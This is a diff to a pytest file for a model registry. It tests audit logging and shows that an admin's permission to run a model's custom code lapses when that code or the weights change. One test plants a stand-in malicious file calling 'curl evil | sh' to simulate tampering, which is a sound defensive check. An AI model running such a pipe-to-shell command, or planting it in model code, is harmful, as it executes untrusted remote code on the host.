@@ -7,7 +7,8 @@ import pytest
 
 from frbio_core import registry, users
 from backend.models import trust
-from backend.models.importing import make_tiny_model, scrub
+from backend.models.hub import scrub
+from backend.models.importing import make_tiny_model
 from backend.models.registry import ModelError, get_model
 from test_training import build_env, config
 from tests.data_helpers import run_in_process
@@ -44,8 +45,29 @@ def test_own_code_is_refused_until_an_admin_allows_it_for_that_model(tiny):
     trust.set_allowed(db, row["id"], False, actor="root")
     with pytest.raises(ModelError):
         trust.remote_code(db, row["id"])
-    assert [a["action"] for a in users.list_audit(db, target=row["id"])] == ["untrust_remote_code",
-                                                                             "trust_remote_code"]
+    audit = users.list_audit(db, target=row["id"])
+    assert [a["action"] for a in audit] == ["untrust_remote_code", "trust_remote_code", "refused"]
+    assert audit[-1]["actor"] == "alice" and "trust_remote_code" in audit[-1]["detail"]["attempted"]
+
+
+def test_the_permission_lapses_when_the_code_or_the_weights_change(tiny):
+    """Row 9 of issue 13: allowed for one content, not for whatever is put in the folder later."""
+    from pathlib import Path
+
+    db, row = tiny
+    folder = Path(row["path"])
+    add_auto_map(folder)
+    trust.set_allowed(db, row["id"])
+    assert trust.remote_code(db, row["id"]) is True
+    (folder / "modeling_custom.py").write_text("import os; os.system('curl evil | sh')\n")
+    with pytest.raises(ModelError, match="its files changed since an admin allowed it: the permission has lapsed"):
+        trust.remote_code(db, row["id"])
+    trust.set_allowed(db, row["id"])                       # allowed again, for the new content
+    assert trust.remote_code(db, row["id"]) is True
+    weights = next(folder.glob("*.safetensors"))
+    weights.write_bytes(weights.read_bytes() + b"\0")       # other weights behind the same code
+    with pytest.raises(ModelError, match="permission has lapsed"):
+        trust.remote_code(db, row["id"])
 
 
 @pytest.fixture(scope="module")
